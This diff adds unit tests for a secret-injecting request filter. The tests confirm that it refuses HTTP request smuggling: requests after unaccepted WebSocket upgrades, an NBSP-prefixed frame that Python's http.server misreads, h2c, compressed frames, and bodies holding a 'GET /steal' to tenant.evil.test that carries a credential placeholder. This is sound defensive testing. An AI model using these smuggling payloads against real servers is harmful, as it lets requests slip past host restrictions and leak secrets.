@@ -189,3 +189,93 @@ test("a binary protocol to a host no secret is for is not held back waiting for 
   const h = new RequestFilter(secrets(), { sni: "other.test", pinned: true });
   assert.equal(Buffer.concat(h.push(Buffer.from("GET /partial")).out).length, 0, "what looks like a request line waits for its head");
 });
+
+test("an Upgrade the server may not take opens no way past the domain rule: unmasked bytes after it, an Upgrade with a body, h2c are refused", async () => {
+  const bind = (h: string) => (h === "api.example.test" ? null : `${h} is not covered`);
+  const ws = "GET /ws HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
+  const evil = "GET /x HTTP/1.1\r\nHost: tenant.evil.test\r\n\r\n";
+  // A server with no WebSocket endpoint (Node without an 'upgrade' listener, nginx, Python)
+  // answers the upgrade request as an ordinary one and reads what follows as the next request.
+  seen = [];
+  await new Promise<void>((resolve) => {
+    const s = net.connect(port, "127.0.0.1", () => { s.write(`${ws}\r\n`); setTimeout(() => s.end(evil), 100); });
+    s.on("data", () => {});
+    s.on("close", () => resolve());
+  });
+  assert.deepEqual(seen.map((r) => r.host), ["api.example.test", "tenant.evil.test"], "Node reads a second request after an upgrade it did not take");
+  for (const [secretsToo, name] of [[false, "bound"], [true, "bound, with secrets"]] as const) {
+    const f = new RequestFilter(secretsToo ? secrets() : [], { sni: "api.example.test", pinned: true, authority: bind });
+    const r1 = f.push(Buffer.from(`${ws}\r\n`));
+    assert.equal(r1.refusal, undefined, `${name}: the upgrade request itself goes`);
+    const r2 = f.push(Buffer.from(evil));
+    assert.ok(r2.refusal, `${name}: a plain request after an upgrade is refused, not passed as WebSocket frames`);
+    assert.equal(Buffer.concat(r2.out).length, 0);
+  }
+  // A masked frame Python's http.server still reads as a request: str.split() takes 0xA0 (NBSP)
+  // for whitespace, so `A0 A0 "GET " "/ HTTP/1.1\r\nHost: evil.tests\r\n\r\n"` (FIN+RSV2, masked,
+  // 32 bytes) is `GET / HTTP/1.1` for Host evil.tests. Its first byte is no WebSocket frame's.
+  const py = new RequestFilter([], { sni: "api.example.test", pinned: true, authority: bind });
+  assert.equal(py.push(Buffer.from(`${ws}\r\n`)).refusal, undefined);
+  const nbsp = py.push(Buffer.concat([Buffer.from([0xa0, 0xa0]), Buffer.from("GET / HTTP/1.1\r\nHost: evil.tests\r\n\r\n")]));
+  assert.equal(nbsp.refusal?.status, 400, "a frame with reserved bits or opcode is refused");
+  assert.equal(Buffer.concat(nbsp.out).length, 0);
+  // A body on the upgrade request: a server that does not upgrade reads it as a body, then the next request.
+  const frameHead = Buffer.from([0x82, 0x80 | 126, 0x03, 0xe8, 1, 2, 3, 4]); // a masked frame "of 1000 bytes"
+  const g = new RequestFilter([], { sni: "api.example.test", pinned: true, authority: bind });
+  const withBody = g.push(Buffer.concat([Buffer.from(`${ws}Content-Length: ${frameHead.length}\r\n\r\n`), frameHead, Buffer.from(evil)]));
+  assert.ok(withBody.refusal, "an upgrade request with a body is refused");
+  assert.doesNotMatch(Buffer.concat(withBody.out).toString("latin1"), /tenant\.evil\.test/);
+  // h2c: after a 101 the connection is HTTP/2, whose requests moat would not judge.
+  const h = new RequestFilter([], { sni: "api.example.test", pinned: true, authority: bind });
+  const h2c = h.push(Buffer.from("GET / HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"));
+  assert.equal(h2c.refusal?.status, 501);
+});
+
+test("WebSocket compression is never negotiated where secrets are: a compressed message would hide a value from the scrubber (or a placeholder from the scanner)", () => {
+  const up = "GET /ws HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\nAuthorization: Bearer " + P + "\r\n\r\n";
+  const f = new RequestFilter(secrets(), { sni: "api.example.test", pinned: true });
+  const r = f.push(Buffer.from(up));
+  const text = Buffer.concat(r.out).toString("latin1");
+  assert.match(text, /Authorization: Bearer VALUE-123\r\n/);
+  assert.doesNotMatch(text, /sec-websocket-extensions/i, "the offer is taken out");
+  // Nor may the guest send a compressed frame (RSV1) anyway.
+  const compressed = Buffer.from([0xc1, 0x80 | 3, 1, 2, 3, 4, 0x61, 0x62, 0x63]);
+  assert.equal(f.push(compressed).refusal?.status, 400);
+  // To a host no secret is for, the offer is taken out too (the placeholder scan reads frames).
+  const g = new RequestFilter(secrets(), { sni: "other.test", pinned: true });
+  assert.doesNotMatch(Buffer.concat(g.push(Buffer.from(up.replace("api.example.test", "other.test").replace(/Authorization[^\r]*\r\n/, ""))).out).toString("latin1"), /sec-websocket-extensions/i);
+});
+
+test("a body that begins as a request line is refused: a server that leaves a body unread takes it for the next request", () => {
+  // Python's http.server never reads a body its handler does not (a do_GET ignores a GET's body;
+  // an early 401 leaves a POST's): the unread bytes are parsed as the next request, with their own
+  // Host. (Checked with python3: "GET / ... Content-Length: N" + "GET /smuggled HTTP/1.1\r\nHost:
+  // tenant.evil.test" was served as a second request for tenant.evil.test.)
+  const bind = (h: string) => (h === "api.example.test" ? null : `${h} is not covered`);
+  const inner = "GET /smuggled HTTP/1.1\r\nHost: tenant.evil.test\r\n\r\n";
+  for (const method of ["GET", "POST"]) {
+    const r = moat(`${method} / HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`, bind);
+    assert.equal(r.refused, 400, method);
+    assert.doesNotMatch(r.out, /smuggled/, `${method}: nothing of the body left`);
+  }
+  const http09 = moat(`POST / HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 34\r\n\r\nGET https://tenant.evil.test/x\r\n\r\n`, bind);
+  assert.equal(http09.refused, 400, "an HTTP/0.9 request line (Python serves it)");
+  // Ordinary bodies pass, also ones arriving a byte at a time.
+  const json = `{"q": "GET me HTTP/1.1 docs", "n": 1}`;
+  assert.equal(moat(`POST / HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: ${json.length}\r\n\r\n${json}`, bind).refused, undefined);
+  const f = new RequestFilter(secrets(), { sni: "api.example.test", pinned: true, authority: bind });
+  const raw = Buffer.from(`POST /a HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 11\r\n\r\nhello\nworldGET /next HTTP/1.1\r\nHost: api.example.test\r\n\r\n`);
+  let out = "";
+  for (let i = 0; i < raw.length; i++) {
+    const r = f.push(raw.subarray(i, i + 1));
+    assert.equal(r.refusal, undefined);
+    out += r.out.map((b) => b.toString("latin1")).join("");
+  }
+  assert.equal(out, raw.toString("latin1"));
+  // A body held to substitute in (inject.body): refused before the value goes into it.
+  const held = new RequestFilter(validateSecrets([{ env: "KEY", allowedHosts: ["api.example.test"], placeholder: P, inject: { body: true } }], { KEY: "VALUE-123" }), { sni: "api.example.test", pinned: true });
+  const carrier = `GET /steal HTTP/1.1\r\nHost: tenant.evil.test\r\nAuthorization: Bearer ${P}\r\n\r\n`;
+  const h = held.push(Buffer.from(`POST /x HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: ${carrier.length}\r\n\r\n${carrier}`));
+  assert.equal(h.refusal?.status, 400);
+  assert.doesNotMatch(h.out.map((b) => b.toString("latin1")).join(""), /VALUE-123/);
+});
